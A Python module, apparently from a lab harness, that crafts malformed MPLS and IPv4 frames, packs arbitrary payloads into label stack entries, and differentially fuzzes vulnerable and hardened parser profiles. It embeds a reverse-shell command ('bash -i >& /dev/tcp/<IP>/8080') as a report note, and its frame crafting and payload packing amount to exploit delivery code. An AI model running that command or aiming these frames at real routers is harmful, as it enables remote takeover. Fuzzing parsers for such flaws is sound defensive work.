"""Attack-frame crafting, constrained payload encoding, and differential fuzzing.

craft() builds the three malformed frames the vulnerable parsers trip over: an
oversized unterminated label stack, an undersized (sub-4-octet) stack, and an
IPv4 datagram whose total length underflows the header length. encode_payload()
packs arbitrary bytes into label stack entries under the delivery constraint
that every entry's bottom-of-stack flag must be clear; a chunk whose bytes
would set that flag cannot be carried and is rejected.

diff_fuzz() drives a deterministic mutation stream through every parser
profile, classifies the corruption events the vulnerable profiles emit, checks
the hardened parser stays silent, and flags any flow-key disagreement between
profiles on frames that triggered nothing.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from itertools import chain
from typing import Iterator, Sequence

from .extract import (
    _KIND_TO_CLASS,
    TRIGGERS,
    ParserMode,
    ParserProfile,
    VulnClass,
    extract,
)
from .packet import (
    ETHERNET_HEADER_LEN,
    ETHERTYPE_IPV4,
    ETHERTYPE_MPLS_UNICAST,
    MPLS_ETHERTYPES,
    _S_FLAG_TABLE,
    EthernetHeader,
    Ipv4Header,
    MplsLse,
    ParseStatus,
    RawFrame,
    TextEnum,
    decode_lse,
    encode_frame,
)
from .pcap import SNAPLEN

DEFAULT_LONG_SHIM_SIZE = 1514
CRAFT_SRC_MAC = bytes.fromhex("020000000001")
CRAFT_DST_MAC = bytes.fromhex("020000000002")
CRAFT_SRC_IP = 0x0A000001  # 10.0.0.1
CRAFT_DST_IP = 0x0A000002  # 10.0.0.2
_FILLER_WORD = MplsLse(label=0, exp=0, bottom_of_stack=False, ttl=64).encode()  # every long shim's filler entry
_SHORT_FRAGMENT = b"\x12\x34\x56"
_MPLS_ETH = EthernetHeader(CRAFT_DST_MAC, CRAFT_SRC_MAC, ETHERTYPE_MPLS_UNICAST).encode()  # heads both shim kinds

STRATEGIES = ("bitflip", "byteflip", "field-splice", "length-truncate", "lse-duplicate")
_SPLICE_SPANS = (1, 2, 4, 6)  # field-splice copies one of these many octets
_N_SPLICE_SPANS = len(_SPLICE_SPANS)
_SPLICE_SPAN_BITS = _N_SPLICE_SPANS.bit_length()

# Reproduced in reports as inert documentation of what the historical payload
# did; nothing in this package executes or emits it.
REMOTE_SHELL_NOTE = 'historical payload spawned: bash -i >& /dev/tcp/<IP>/8080 (never executed here)'

_MALFORMED = ParseStatus.MALFORMED
# Positional NamedTuple construction: skips the generated __new__'s Python frame.
_tuple_new = tuple.__new__
# How many distinct frames one diff_fuzz call keeps verdicts for. The first
# ones seen are kept and none is evicted, so a call's memory stays bounded
# however many mutants it runs.
VERDICT_MEMO_FRAMES = 4096
# The classes whose trigger is a threshold in the prefix length, so minimize bisects them.
_THRESHOLD_CLASSES = frozenset({VulnClass.LONG_STACK_232, VulnClass.IP_UNDERFLOW_250})
# The one mode whose trigger emits each class.
_MODE_OF = {cls: mode for mode, (_, cls) in TRIGGERS.items()}


class PayloadTooLarge(ValueError):
    """Payload needs more label stack entries than the frame budget allows."""


class PayloadViolatesConstraint(ValueError):
    """A 4-octet chunk would set the bottom-of-stack flag."""

    def __init__(self, chunk_index: int) -> None:
        super().__init__(f"chunk {chunk_index} has its S-position bit set")
        self.chunk_index = chunk_index


class AttackKind(TextEnum):
    LONG_SHIM = "long-shim"
    SHORT_SHIM = "short-shim"
    ACL_BYPASS = "acl-bypass"


@dataclass(frozen=True)
class AttackSpec:
    """Parameters for one crafted frame.

    frame_size drives the long-shim label count (floor((size-14)/4) entries);
    fragment_len the short-shim trailing stub; total_length and the ports the
    malformed IPv4 frame. A long-shim frame must fit a pcap record
    (frame_size <= SNAPLEN).
    """

    kind: AttackKind
    frame_size: int = DEFAULT_LONG_SHIM_SIZE
    fragment_len: int = 2
    total_length: int = 0
    sport: int = 1234
    dport: int = 8080
    payload: bytes | None = None

    def __post_init__(self) -> None:
        if self.kind is AttackKind.LONG_SHIM and self.label_count < 1:
            raise ValueError(f"frame_size {self.frame_size} leaves no room for a label stack")
        if self.kind is AttackKind.LONG_SHIM and self.frame_size > SNAPLEN:
            raise ValueError(f"frame_size {self.frame_size} exceeds the pcap snaplen {SNAPLEN}")
        if self.kind is AttackKind.SHORT_SHIM and self.fragment_len not in (1, 2, 3):
            raise ValueError(f"fragment_len must be 1..3, got {self.fragment_len}")
        if not 0 <= self.total_length <= 0xFFFF:
            raise ValueError(f"total_length {self.total_length} exceeds 16 bits")
        if not 0 <= self.sport <= 0xFFFF:
            raise ValueError("sport exceeds 16 bits")
        if not 0 <= self.dport <= 0xFFFF:
            raise ValueError("dport exceeds 16 bits")

    @property
    def label_count(self) -> int:
        return (self.frame_size - ETHERNET_HEADER_LEN) // 4


def encode_payload(data: bytes) -> list[MplsLse]:
    """Pack data into label stack entries, 4 octets per entry.

    Every produced entry has the bottom-of-stack flag clear; a chunk whose
    S-position bit is set is rejected with its index. Re-encoding the result
    reproduces the input exactly.
    """
    if len(data) % 4:
        raise ValueError(f"payload length {len(data)} not divisible by 4; caller pads")
    _check_s_bits(data)
    return [decode_lse(data[index : index + 4]) for index in range(0, len(data), 4)]


def _check_s_bits(data: bytes) -> None:
    """Raise PayloadViolatesConstraint for the first 4-octet chunk of data whose S-position bit is set.

    One strided slice takes each chunk's third octet, as extract's stack walk does.
    """
    index = data[2::4].translate(_S_FLAG_TABLE).find(1)
    if index >= 0:
        raise PayloadViolatesConstraint(index)


def craft(spec: AttackSpec) -> RawFrame:
    """Build the attack frame described by spec. Timestamps stay zero."""
    if spec.kind is AttackKind.LONG_SHIM:
        # The payload's chunks are spliced in as they are: each decodes to an
        # entry that encodes back to the same four octets. The filler entries
        # behind them are one encoded word, repeated.
        count = spec.label_count
        payload = b"" if spec.payload is None else spec.payload + bytes(-len(spec.payload) % 4)
        _check_s_bits(payload)
        entries = len(payload) // 4
        if entries > count:
            raise PayloadTooLarge(f"payload needs {entries} entries, frame budget is {count}")
        return RawFrame.of(_MPLS_ETH + payload + _FILLER_WORD * (count - entries))

    if spec.kind is AttackKind.SHORT_SHIM:
        return RawFrame.of(_MPLS_ETH + _SHORT_FRAGMENT[: spec.fragment_len])

    eth = EthernetHeader(CRAFT_DST_MAC, CRAFT_SRC_MAC, ETHERTYPE_IPV4)
    ip = Ipv4Header(
        total_length=spec.total_length,
        protocol=17,
        src_ip=CRAFT_SRC_IP,
        dst_ip=CRAFT_DST_IP,
    )
    ports = spec.sport.to_bytes(2, "big") + spec.dport.to_bytes(2, "big")
    return encode_frame(eth, [ip], payload=ports)


@dataclass(frozen=True)
class MutationBudget:
    """How much mutation to perform and with which strategies.

    The stream is a pure function of (corpus, seed, strategies): identical
    inputs give identical mutants. iterations=0 means no mutants (the fuzzer
    still evaluates the seed corpus itself). max_len caps each mutant and
    may not exceed SNAPLEN, so every mutant fits a pcap record.
    """

    iterations: int
    seed: int = 0
    max_len: int = 9216
    strategies: frozenset[str] = frozenset(STRATEGIES)

    def __post_init__(self) -> None:
        if self.iterations < 0:
            raise ValueError("iterations must be >= 0")
        if not 1 <= self.max_len <= SNAPLEN:
            raise ValueError(f"max_len must be 1..{SNAPLEN} (the pcap snaplen), got {self.max_len}")
        unknown = set(self.strategies) - set(STRATEGIES)
        if unknown:
            raise ValueError(f"unknown strategies: {sorted(unknown)}")
        if not self.strategies:
            raise ValueError("at least one strategy required")


def mutate(corpus: Sequence[RawFrame], budget: MutationBudget) -> Iterator[RawFrame]:
    """Yield budget.iterations deterministic mutants of the corpus.

    bitflip walks bit positions sequentially per seed frame, so a small budget
    enumerates distinct single-bit variants instead of colliding randomly.
    length-truncate either cuts the frame short or, on an IPv4 frame, shrinks
    the claimed total length. lse-duplicate re-inserts the top label stack
    entry. Strategies that do not apply to the chosen frame fall back to
    byteflip so every iteration yields a mutant. Empty frames are skipped:
    no strategy can mutate zero octets.

    Every integer is drawn with ``getrandbits`` by the rejection loop that
    ``random.Random.randrange(n)`` and ``choice`` use (``n.bit_length()`` bits,
    redrawn while not below ``n``), so each draw equals what ``randrange`` or
    ``choice`` would return from the same seed, draw for draw, without their
    argument checks.
    """
    return _mutation_stream(_non_empty(corpus), budget)


def _non_empty(corpus: Sequence[RawFrame]) -> tuple[RawFrame, ...]:
    """The corpus without its empty frames; raises ValueError when nothing is left."""
    seeds = tuple(frame for frame in corpus if frame.data)
    if not seeds:
        raise ValueError("corpus must be non-empty")
    return seeds


def _mutation_stream(corpus: tuple[RawFrame, ...], budget: MutationBudget) -> Iterator[RawFrame]:
    rng = random.Random(budget.seed)
    getrandbits = rng.getrandbits
    strategies = sorted(budget.strategies)
    seeds = [frame.data for frame in corpus]
    n_seeds = len(seeds)
    n_strategies = len(strategies)
    seed_bits = n_seeds.bit_length()
    strategy_bits = n_strategies.bit_length()
    bit_cursors = [0] * n_seeds
    max_len = budget.max_len

    def below(n):
        """rng.randrange(n), draw for draw: n.bit_length() bits, redrawn while not below n."""
        k = n.bit_length()
        r = getrandbits(k)
        while r >= n:
            r = getrandbits(k)
        return r

    for _ in range(budget.iterations):
        # The two draws every mutant makes inline below(), saving a call each.
        idx = 0
        if n_seeds > 1:
            idx = getrandbits(seed_bits)
            while idx >= n_seeds:
                idx = getrandbits(seed_bits)
        strategy = strategies[0]
        if n_strategies > 1:
            pick = getrandbits(strategy_bits)
            while pick >= n_strategies:
                pick = getrandbits(strategy_bits)
            strategy = strategies[pick]
        data = seeds[idx]
        size = len(data)

        # Each strategy that does not apply leaves mutant None, and the frame is byteflipped instead.
        mutant = None
        if strategy == "bitflip":
            pos = bit_cursors[idx] % (size * 8)
            bit_cursors[idx] += 1
            buf = bytearray(data)
            buf[pos >> 3] ^= 0x80 >> (pos & 7)
            mutant = bytes(buf)
        elif strategy == "lse-duplicate":
            if size >= 18 and (data[12] << 8 | data[13]) in MPLS_ETHERTYPES:
                mutant = data[:18] + data[14:]
        elif strategy == "field-splice":
            # Its three draws inline below() as well.
            pick = getrandbits(seed_bits)
            while pick >= n_seeds:
                pick = getrandbits(seed_bits)
            other = seeds[pick]
            limit = min(size, len(other))
            if limit >= 2:
                bits = limit.bit_length()
                offset = getrandbits(bits)
                while offset >= limit:
                    offset = getrandbits(bits)
                span = getrandbits(_SPLICE_SPAN_BITS)
                while span >= _N_SPLICE_SPANS:
                    span = getrandbits(_SPLICE_SPAN_BITS)
                end = offset + min(_SPLICE_SPANS[span], limit - offset)
                mutant = data[:offset] + other[offset:end] + data[end:]
        elif strategy == "length-truncate":
            if size >= 34 and (data[12] << 8 | data[13]) == ETHERTYPE_IPV4 and rng.random() < 0.5:
                old = data[16] << 8 | data[17]
                new = below(old) if old else 0
                mutant = data[:16] + new.to_bytes(2, "big") + data[18:]
            elif size > 1:
                mutant = data[: 1 + below(size - 1)]
        if mutant is None:
            buf = bytearray(data)
            buf[below(size)] ^= 0xFF
            mutant = bytes(buf)

        size = len(mutant)
        if size > max_len:
            mutant = mutant[:max_len]
            size = max_len
        yield _tuple_new(RawFrame, (mutant, size, 0, 0))


@dataclass
class FuzzReport:
    """Differential fuzzing outcome: counts, exemplars, violations."""

    profiles: tuple[ParserProfile, ...]
    seed_count: int
    mutant_count: int
    class_counts: dict[VulnClass, int]
    exemplars: dict[VulnClass, RawFrame]
    equivalence_violations: int
    violation_exemplar: RawFrame | None
    hardened_event_count: int
    empty_seeds: int

    @property
    def has_failures(self) -> bool:
        return self.hardened_event_count > 0 or self.equivalence_violations > 0

    def to_text(self) -> str:
        lines = ["profiles=" + ",".join(p.mode.value for p in self.profiles), f"seeds={self.seed_count}"]
        if self.empty_seeds:
            lines.append(f"empty_seeds_skipped={self.empty_seeds}")
        lines += [f"mutants={self.mutant_count}", f"frames_evaluated={self.seed_count + self.mutant_count}"]
        for cls in (VulnClass.LONG_STACK_232, VulnClass.SHORT_LSE_240, VulnClass.IP_UNDERFLOW_250):
            count = self.class_counts.get(cls, 0)
            exemplar = self.exemplars.get(cls)
            suffix = f" exemplar_len={exemplar.capture_len}" if exemplar is not None else ""
            lines.append(f"class={cls} count={count}{suffix}")
        lines.append(f"equivalence_violations={self.equivalence_violations}")
        lines.append(f"hardened_events={self.hardened_event_count}")
        lines.append(f"note={REMOTE_SHELL_NOTE}")
        return "\n".join(lines) + "\n"

    def exemplar_frames(self) -> list[RawFrame]:
        ordered = sorted(self.exemplars.items(), key=lambda item: item[0].value)
        frames = [frame for _, frame in ordered]
        if self.violation_exemplar is not None:
            frames.append(self.violation_exemplar)
        return frames


def minimize(frame: RawFrame, cls: VulnClass, profiles: Sequence[ParserProfile]) -> RawFrame:
    """The shortest prefix that greedy 1-octet suffix truncation reaches while the class persists.

    Precondition: ``frame`` fires ``cls`` under one of ``profiles``, as every
    ``diff_fuzz`` exemplar does. A candidate keeps the class when any
    profile's extraction emits it. Only the profiles of the class's own mode
    are asked, in the order given: each mode emits one class (``TRIGGERS``),
    so no other profile can emit it.

    Only the suffix is trimmed. Every class needs octets 12-13 to hold
    0x8847/0x8848 (LongStack, ShortLse) or 0x0800 (IpUnderflow); dropping
    the first octet moves the old ethertype's low octet (0x47, 0x48 or 0x00)
    into the high place, never 0x88 or 0x08, so no prefix trim keeps a class.

    For LongStack and IpUnderflow, once the whole frame of n octets fires,
    whether a prefix of L octets fires is a threshold in L over [1, n], so
    the greedy answer (the smallest L from which every longer prefix fires)
    is the smallest L that fires, and a bisection finds it in
    ceil(log2 n) probes instead of one per trimmed octet:

    - LongStack fires only under v232: an MPLS ethertype, no bottom-of-stack
      flag among the complete entries, and more complete entries than the
      profile's label limit. Cutting a suffix never adds an entry, so a
      prefix fires exactly when ``(L - 14) // 4`` exceeds the smallest v232
      label limit in ``profiles``.
    - IpUnderflow fires only under v250, and reads octets 12-33 alone: an
      IPv4 ethertype, and a total length of 0 or below the header length.
      The option-less shortcut needs a total length of at least 20, the
      minimum header length, so it never takes such a frame, and a prefix
      fires exactly when L >= 34.

    ShortLse fires when ``(L - 14) % 4 != 0``, which is no threshold, so it
    keeps the scan, which stops within 3 trims. A frame that does not fire
    its class whole keeps the scan too.
    """
    mode = _MODE_OF.get(cls)  # None for BENIGN, which no profile emits
    asked = [profile for profile in profiles if profile.mode is mode]

    def triggers(data: bytes) -> bool:
        candidate = _tuple_new(RawFrame, (data, len(data), 0, 0))
        for profile in asked:
            if extract(candidate, 0, profile)[1]:
                return True
        return False

    data = frame.data
    if cls in _THRESHOLD_CLASSES and triggers(data):
        # The shortest firing prefix lies in [low, high]; high always fires.
        low, high = 1, len(data)
        while low < high:
            middle = (low + high) // 2
            if triggers(data[:middle]):
                high = middle
            else:
                low = middle + 1
        return RawFrame(data[:high], high)
    while len(data) > 1:
        candidate = data[:-1]
        if not triggers(candidate):
            break
        data = candidate
    return RawFrame(data, len(data))


def _asked_behind(vulnerable: tuple[ParserProfile, ...], ethertype: int | None) -> tuple[ParserProfile, ...]:
    """The profiles whose trigger can fire behind ethertype, and the first of each label limit among the rest."""
    asked = []
    limits = set()
    for profile in vulnerable:
        if ethertype in TRIGGERS[profile.mode][0]:
            asked.append(profile)
        elif profile.label_limit not in limits:
            limits.add(profile.label_limit)
            asked.append(profile)
    return tuple(asked)


def diff_fuzz(
    corpus: Sequence[RawFrame],
    budget: MutationBudget,
    profiles: Sequence[ParserProfile],
) -> FuzzReport:
    """Run the seed corpus plus its mutation stream through every profile.

    Corruption events are classified and counted per class; the smallest
    (then lexicographically first) triggering frame per class is kept and
    minimized. Frames that trigger no profile must produce identical flow
    keys everywhere; any divergence is an equivalence violation. The merge
    rules (commutative counts, smallest-then-lexicographic exemplars) make
    the report independent of evaluation order. Empty seed frames cannot be
    extracted or mutated; they are skipped and counted in ``empty_seeds``.

    Each distinct frame is judged once per call: its verdict (the findings it
    adds to the ledger and its hardened-event count) is kept by its octets, and
    a repeated frame adds that verdict again without being extracted. This is
    exact: every frame is extracted with in_port 0 and the default
    ``adjacent``, so extract reads nothing of it but ``frame.data``. Counts and
    exemplars still accrue per frame, so the report is the same as judging
    every frame afresh. The first ``VERDICT_MEMO_FRAMES`` distinct frames are
    kept, none is evicted, and nothing outlives the call.

    Only the vulnerable profiles that could change the verdict parse a frame.
    On a frame no hardened profile finds MALFORMED, no trigger can fire, and
    those of one label limit agree on its key, so the first of each limit
    parses it. On a MALFORMED frame, every profile whose trigger can fire
    behind the frame's ethertype (``TRIGGERS``) parses it, plus the first of
    each limit among the others, which run the same code as the rest of their
    limit. Once one key disagrees, no further key is compared.
    """
    profiles = tuple(profiles)
    hardened = tuple(p for p in profiles if p.mode is ParserMode.HARDENED)
    vulnerable = tuple(p for p in profiles if p.mode is not ParserMode.HARDENED)
    if not hardened:
        raise ValueError("profiles must include the hardened parser")
    if not vulnerable:
        raise ValueError("profiles must include at least one vulnerable parser")
    seeds = _non_empty(corpus)
    # A MALFORMED frame too short for an ethertype (its key's is None), or
    # behind one no trigger lies behind, is asked as an accepted frame is.
    firsts = _asked_behind(vulnerable, None)
    asked_behind = {ethertype: _asked_behind(vulnerable, ethertype)
                    for ethertypes, _ in TRIGGERS.values() for ethertype in ethertypes}

    # One ledger for both findings: a vulnerability class, or None for an
    # equivalence violation (no profile fired, yet the flow keys disagree).
    # Each keeps its count and its smallest, then lexicographically first, frame.
    counts: dict[VulnClass | None, int] = {}
    best: dict[VulnClass | None, tuple[int, bytes]] = {}
    hardened_events = 0
    # A frame's verdict: what it adds to the ledger, and its hardened events.
    verdicts: dict[bytes, tuple[list[VulnClass | None], int]] = {}
    for frame in chain(seeds, mutate(seeds, budget)):
        data = frame.data
        verdict = verdicts.get(data)
        if verdict is None:
            # Plain loops, with no comprehension or generator per frame (each
            # builds and calls a function object). They collect the classes in
            # profile order (one lookup of the first event's kind, as
            # classify_events does), the hardened events, and whether every
            # event-free key equals the first hardened profile's key.
            found = []
            events = 0
            key = None
            agree = True
            malformed = False
            for profile in hardened:
                result_key, result_events, _ = extract(frame, 0, profile)
                if result_events:
                    found.append(_KIND_TO_CLASS[result_events[0].kind])
                    events += 1
                if key is None:
                    key = result_key
                elif agree and result_key != key:
                    agree = False
                if result_key.parse_status is _MALFORMED:
                    malformed = True
            for profile in asked_behind.get(key.ethertype, firsts) if malformed else firsts:
                result_key, result_events, _ = extract(frame, 0, profile)
                if result_events:
                    found.append(_KIND_TO_CLASS[result_events[0].kind])
                elif agree and result_key != key:
                    agree = False
            if not (found or agree):
                found.append(None)
            verdict = (found, events)
            if len(verdicts) < VERDICT_MEMO_FRAMES:
                verdicts[data] = verdict
        found, events = verdict
        hardened_events += events
        if found:
            rank = (len(data), data)
            for cls in found:
                counts[cls] = counts.get(cls, 0) + 1
                if cls not in best or rank < best[cls]:
                    best[cls] = rank

    violations = counts.pop(None, 0)
    violation = best.pop(None, None)
    return FuzzReport(
        profiles=profiles,
        seed_count=len(seeds),
        mutant_count=budget.iterations,
        class_counts=counts,
        exemplars={cls: minimize(RawFrame(data, size), cls, profiles) for cls, (size, data) in best.items()},
        equivalence_violations=violations,
        violation_exemplar=RawFrame(violation[1], violation[0]) if violation else None,
        hardened_event_count=hardened_events,
        empty_seeds=len(corpus) - len(seeds),
    )
